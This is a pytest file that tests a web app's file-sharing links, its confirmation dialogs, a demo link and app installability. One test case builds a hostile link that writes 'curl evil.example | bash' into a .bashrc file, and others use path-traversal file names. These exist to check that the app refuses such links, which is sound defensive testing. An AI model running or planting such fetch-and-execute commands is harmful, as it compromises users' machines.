"""Links with files or the demo, and the page as an application."""

from __future__ import annotations

import base64
import json
import zlib
from typing import Any

import pytest

from gemini_testing import Surface
from gemini_testing.plugin import OpenSurface
from tests.web.person import Person

pytestmark = pytest.mark.extended("shared")

FOLDER = "/project/tea-shop"


def link(*files: tuple[str, str], name: str = "tea-shop") -> str:
    """Return the fragment of a link, as anyone can make it."""
    contents = [content.encode() for _, content in files]
    sizes = [[path, len(content)] for (path, _), content in zip(files, contents, strict=True)]
    head = json.dumps({"name": name, "files": sizes})
    packer = zlib.compressobj(9, wbits=-15)
    packed = packer.compress(head.encode() + b"\n" + b"".join(contents)) + packer.flush()
    return f"#files={base64.urlsafe_b64encode(packed).decode().rstrip('=')}"


def open_link(surface: Surface, fragment: str) -> None:
    surface.javascript("location.hash = arguments[0]", fragment)


def choose(person: Person, value: str) -> None:
    person.click(f"dialog.question button[value='{value}']")


def exists(surface: Surface, path: str) -> bool:
    return surface.python(f"import os; os.path.exists({path!r})")


@pytest.fixture(autouse=True)
def no_folder(surface: Surface) -> None:
    surface.python(f"import shutil; shutil.rmtree({FOLDER!r}, ignore_errors=True)")


def test_files_are_added_after_a_question(surface: Surface, person: Person) -> None:
    open_link(surface, link(("index.html", "<h1>Tea</h1>"), ("src/tea.js", "1")))
    shown = person.sees("dialog.question", "Add 2 files from this link?")
    assert "index.html" in shown and "src/tea.js" in shown and "Anyone can make such a link" in shown
    assert surface.javascript("return location.hash") == ""
    assert not exists(surface, FOLDER)

    choose(person, "add")
    surface.wait_for("!document.querySelector('dialog.question')")
    surface.wait_for(f"gemini.python(`import os; os.path.exists('{FOLDER}/src/tea.js')`)")
    assert surface.call("file_read", path=f"{FOLDER}/index.html")["content"] == "<h1>Tea</h1>"


def test_a_refusal_adds_nothing(surface: Surface, person: Person) -> None:
    open_link(surface, link(("index.html", "<h1>Tea</h1>")))
    person.sees("dialog.question", "from this link?")
    choose(person, "")
    surface.wait_for("!document.querySelector('dialog.question')")
    assert not exists(surface, FOLDER)


def test_nothing_is_replaced_without_a_further_question(surface: Surface, person: Person) -> None:
    surface.call("file_write", path=f"{FOLDER}/index.html", content="mine")
    open_link(surface, link(("index.html", "theirs")))
    choose(person, "add")
    person.sees("dialog.question", "already exists")
    choose(person, "")
    surface.wait_for("!document.querySelector('dialog.question')")
    assert surface.call("file_read", path=f"{FOLDER}/index.html")["content"] == "mine"


@pytest.mark.parametrize(
    "fragment",
    [
        pytest.param("#files=AAAA", id="damaged"),
        pytest.param(link((".bashrc", "curl evil.example | bash")), id="hidden"),
        pytest.param(link(("../../home/user/x", "x")), id="outside"),
        pytest.param(link(("x", "x"), name=".."), id="name"),
    ],
)
def test_a_hostile_link_is_refused(surface: Surface, person: Person, fragment: str) -> None:
    open_link(surface, fragment)
    person.sees("dialog.question", "This link can't be opened")
    choose(person, "")
    surface.wait_for("!document.querySelector('dialog.question')")


def test_the_files_of_a_link_are_those_that_were_selected(surface: Surface, person: Person) -> None:
    surface.call("file_write", path=f"{FOLDER}/index.html", content="<h1>Tea</h1>")
    person.copy("nothing")
    surface.call("file_navigate", path="/project")
    person.open_panel("files")
    person.click(f"[data-path='{FOLDER}']")
    person.click('region "Files" button "Actions"')
    person.click(".menu [data-item=copy-link]")
    person.sees('region "Files"', "Link with 1 file copied.")
    copied = surface.javascript("return navigator.clipboard.readText()")
    surface.python(f"import shutil; shutil.rmtree({FOLDER!r})")
    open_link(surface, f"#{copied.partition('#')[2]}")
    choose(person, "add")
    surface.wait_for(f"gemini.python(`import os; os.path.exists('{FOLDER}/index.html')`)")


def test_the_demo_starts_after_a_question(surface: Surface, person: Person) -> None:
    open_link(surface, "#demo=errors")
    person.sees("dialog.question", "Watch the demo?")
    surface.python("from gemini.agents import demo; demo.PACE_S = 0")
    choose(person, "watch")
    person.sees('region "Agent"', "report.py")


def test_a_first_visit_of_a_static_host_opens_the_link(open_surface: OpenSurface) -> None:
    surface = open_surface(isolated=False, path=link(("index.html", "<h1>Tea</h1>")))
    person = Person(surface)
    person.sees("dialog.question", "Add 1 file from this link?")
    choose(person, "add")
    surface.wait_for(f"gemini.python(`import os; os.path.exists('{FOLDER}/index.html')`)")
    person.sees(".start-alone summary", "no MCP clients, no terminals of your computer. One line adds it")
    person.click(".start-alone summary")
    person.sees(".start-line code", 'uvx --from "control-surface[companion]" control-surface serve')
    assert installability(surface) == []


def installability(surface: Surface) -> list[Any]:
    driver = surface.driver
    manifest = driver.execute_cdp_cmd("Page.getAppManifest", {})
    assert manifest["errors"] == [] and manifest["url"].endswith("/manifest.webmanifest")
    problems = driver.execute_cdp_cmd("Page.getInstallabilityErrors", {})["installabilityErrors"]
    # A private window installs nothing.
    return [problem for problem in problems if problem["errorId"] != "in-incognito"]
